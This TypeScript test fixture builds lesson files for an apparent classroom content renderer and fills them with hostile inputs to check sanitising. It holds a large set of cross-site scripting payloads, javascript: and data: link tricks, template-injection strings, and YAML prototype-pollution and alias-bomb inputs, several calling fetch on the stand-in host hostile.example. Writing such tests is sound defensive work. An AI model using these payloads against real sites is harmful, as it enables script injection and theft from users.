/** A lesson that tries to run something, or to ask something of a stranger. */
export interface HostileLesson {
  readonly name: string;
  readonly text: string;
}

const STRANGER = 'https://hostile.example';
/** What a script would do that got through: it leaves a mark, and asks a stranger. */
const RUN = `globalThis.ran=1;fetch('${STRANGER}/x')`;

const quoted = (text: string): string => JSON.stringify(text);

interface Places {
  readonly title?: string;
  readonly about?: string;
  readonly head?: string;
  readonly prose?: string;
  readonly block?: string;
  readonly blockTitle?: string;
  readonly question?: string;
  readonly tray?: string;
  readonly hint?: string;
  readonly because?: string;
}

/** A sound lesson with hostile words in one of its places. */
function lesson(places: Places): string {
  const {
    title = 'A lesson',
    about,
    head = '',
    prose = 'Look.',
    block,
    blockTitle = 'Made or not?',
  } = places;
  const { question, tray = 'made', hint = 'people shaped it', because } = places;
  return `---
title: ${quoted(title)}
${about === undefined ? '' : `about: ${quoted(about)}\n`}site: wendle-marsh
bands: [7-9]
minutes: 25
${head}---
${prose}

${
  block ??
  `\`\`\`sort
title: ${quoted(blockTitle)}
finds: { pit: P3, leave-out: [P3-128] }
by: made-by
trays:
  - { name: ${quoted(tray)}, holds: [carved, ground, fired], hint: ${quoted(hint)} }
  - { name: not made, holds: [natural, burnt] }
${question === undefined ? '' : `question: ${quoted(question)}\n`}${because === undefined ? '' : `also: [{ find: P3-125, tray: not made, because: ${quoted(because)} }]\n`}minutes: 12
\`\`\``
}
`;
}

const markup = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${STRANGER}/pixel.gif">`,
  `<svg onload="${RUN}"><rect width=9 height=9 /></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}" /><a><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x" /></svg>`,
  `<math><mtext></table><img src=x onerror=${RUN}></mtext></math>`,
  `<iframe src="${STRANGER}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=${STRANGER}">`,
  `<base href="${STRANGER}/">`,
  `<form action="${STRANGER}"><input name=q autofocus onfocus="${RUN}"><button>Go</button></form>`,
  `<link rel="stylesheet" href="${STRANGER}/x.css">`,
  `<style>*{background:url(${STRANGER}/x)}</style>`,
  `<p style="background:url(${STRANGER}/x)">x</p>`,
  `<object data="${STRANGER}/x.swf"></object><embed src="${STRANGER}/x">`,
  `<video src="${STRANGER}/x.mp4" autoplay onerror="${RUN}"></video>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `</style><script>${RUN}</script><style>`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}' x='`,
  '&lt;script&gt;globalThis.ran=1&lt;/script&gt; &#60;img src=x onerror=globalThis.ran=1&#62;',
  '\u2028</script>\u2029<script>globalThis.ran=1</script>',
  '\u202Etpircs<\u202C <scr\u0000ipt>globalThis.ran=1</scr\u0000ipt>',
  '{{constructor.constructor("globalThis.ran=1")()}} ${globalThis.ran=1} <%= 1 %>',
];

const links = [
  `[press](javascript:${RUN.replaceAll(/[()]/g, '')})`,
  '[press](<java\tscript:globalThis.ran=1>)',
  '[press](&#106;avascript:globalThis.ran=1)',
  '[press](vbscript:globalThis.ran=1)',
  '[press](data:text/html,<script>globalThis.ran=1</script>)',
  '[press](//hostile.example/x)',
  `![x](${STRANGER}/x.png)`,
  `![x][a]\n\n[a]: ${STRANGER}/x.png`,
  '[press][a]\n\n[a]: javascript:globalThis.ran=1',
  '<javascript:globalThis.ran=1>',
];

const yaml = [
  lesson({ head: '__proto__: { ran: 1 }\n' }),
  lesson({ head: 'constructor: { prototype: { ran: 1 } }\n' }),
  lesson({ head: 'visit: !!js/function "globalThis.ran=1"\n' }),
  lesson({ head: 'a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nd: [*c,*c]\n' }),
  lesson({ head: '<<: { ran: 1 }\n' }),
  lesson({ block: '```sort\n__proto__: { ran: 1 }\ntitle: x\nminutes: 5\n```' }),
  lesson({ block: '```__proto__\ntitle: x\n```' }),
  lesson({ block: '```constructor\ntitle: x\n```' }),
  lesson({ block: '```sort" onload="globalThis.ran=1\ntitle: x\n```' }),
  lesson({ block: `\`\`\`sort\ntitle: x\nid: "x' onload='globalThis.ran=1"\nminutes: 5\n\`\`\`` }),
  lesson({ block: '```toString\n```' }),
];

/** More than forty of them, in every place that words can stand. */
export const hostileLessons: readonly HostileLesson[] = [
  ...markup.flatMap((words, index) => [
    { name: `markup ${index + 1} in prose`, text: lesson({ prose: words }) },
    {
      name: `markup ${index + 1} in every text of the file`,
      text: lesson({
        title: words.slice(0, 110),
        about: words.slice(0, 200),
        // Escaped, it is words that pupils may read.
        prose: words.replaceAll('<', String.raw`\<`).replaceAll('\u0000', ''),
        blockTitle: words.slice(0, 110),
        question: words.slice(0, 110),
        tray: words.slice(0, 38),
        hint: words.slice(0, 76),
        because: words.slice(0, 150),
      }),
    },
  ]),
  ...links.map((words, index) => ({ name: `link ${index + 1}`, text: lesson({ prose: words }) })),
  ...yaml.map((text, index) => ({ name: `yaml ${index + 1}`, text })),
];
